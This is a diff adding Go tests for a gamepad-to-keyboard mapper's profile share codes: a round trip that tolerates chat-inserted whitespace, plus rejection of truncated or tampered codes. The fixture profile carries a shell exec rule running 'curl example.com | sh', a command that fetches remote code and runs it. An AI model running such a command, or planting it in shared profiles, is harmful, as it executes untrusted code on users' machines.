@@ -0,0 +1,77 @@
+package config
+
+import (
+	"strings"
+	"testing"
+
+	"gamepad-key-mapper/internal/gamepad"
+	"gamepad-key-mapper/internal/keyboard"
+	"gamepad-key-mapper/internal/mapper"
+)
+
+func shareProfile() *Profile {
+	p := NewProfile("chat")
+	p.Rules = []*mapper.MappingRule{
+		mapper.NewRule("k", gamepad.ButtonA, keyboard.KeyCode(0x41), keyboard.Modifiers{Ctrl: true}),
+		mapper.NewRuleExec("e", gamepad.ButtonB, &mapper.ExecAction{Mode: mapper.ExecShell, Command: "curl example.com | sh", OnPress: true}),
+	}
+	return p
+}
+
+func TestShareCodeRoundTrip(t *testing.T) {
+	code, err := EncodeShareCode(shareProfile())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(code, ShareCodePrefix) {
+		t.Fatalf("code %q lacks prefix %q", code, ShareCodePrefix)
+	}
+
+	// 聊天软件插入的换行和空格被忽略
+	wrapped := code[:20] + "\n  " + code[20:]
+	bundle, err := DecodeShareCode(wrapped)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if bundle.Meta.Name != "chat" || len(bundle.Profile.Rules) != 2 {
+		t.Fatalf("decoded bundle = %+v, want profile chat with 2 rules", bundle)
+	}
+
+	exec := bundle.ExecRules()
+	if len(exec) != 1 || exec[0].Exec.Command != "curl example.com | sh" {
+		t.Errorf("ExecRules() = %v, want the shell rule", exec)
+	}
+}
+
+func TestDecodeShareCodeRejectsDamage(t *testing.T) {
+	code, err := EncodeShareCode(shareProfile())
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	// 修改中间的一个字符
+	mid := len(ShareCodePrefix) + (len(code)-len(ShareCodePrefix))/2
+	flipped := byte('A')
+	if code[mid] == 'A' {
+		flipped = 'B'
+	}
+	tampered := code[:mid] + string(flipped) + code[mid+1:]
+
+	tests := []struct {
+		name string
+		code string
+	}{
+		{"truncated", code[:len(code)-6]},
+		{"tampered", tampered},
+		{"wrong prefix", "XYZ1:" + code[len(ShareCodePrefix):]},
+		{"future version", "GKM9:" + code[len(ShareCodePrefix):]},
+		{"empty", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, err := DecodeShareCode(tt.code); err == nil {
+				t.Error("DecodeShareCode accepted a damaged code")
+			}
+		})
+	}
+}